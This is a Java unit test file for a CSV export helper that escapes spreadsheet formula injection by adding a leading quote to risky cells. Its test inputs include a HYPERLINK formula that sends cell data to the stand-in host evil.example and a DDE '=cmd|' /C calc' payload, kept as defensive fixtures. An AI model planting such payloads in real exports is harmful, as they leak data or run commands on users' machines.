package org.themebot.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

class SpreadsheetCsvTest {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=", "-"})
    void aCellASpreadsheetWouldEvaluateGetsALeadingQuote(String typed) {
        assertThat(SpreadsheetCsv.cell(typed)).isEqualTo("'" + typed);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "Sept 08", "Sue Bent / Debbie Briggs", " =1+1", "'=1+1", "2008-09-03", "A1", "E&CC", "多様性 🌍",
            "1-2 weeks", "a=b"})
    void otherCellsStayAsTyped(String typed) {
        assertThat(SpreadsheetCsv.cell(typed)).isEqualTo(typed);
    }

    @Test
    void utf8WithAByteOrderMarkAndCrlfRows() {
        byte[] file = SpreadsheetCsv.write(List.of("title", "who"), List.of(List.of("City – Progress", "=cmd|' /C calc'!A0")));

        assertThat(file).startsWith((byte) 0xEF, (byte) 0xBB, (byte) 0xBF);
        assertThat(new String(file, StandardCharsets.UTF_8))
                .isEqualTo("\uFEFFtitle,who\r\nCity – Progress,'=cmd|' /C calc'!A0\r\n");
    }

    @Test
    void quotingStillFollowsRfc4180AfterTheQuoteIsAdded() {
        String text = new String(SpreadsheetCsv.write(List.of("a"), List.of(List.of("=1,\"2\"\n3"))), StandardCharsets.UTF_8);

        assertThat(text).isEqualTo("\uFEFFa\r\n\"'=1,\"\"2\"\"\n3\"\r\n");
    }
}
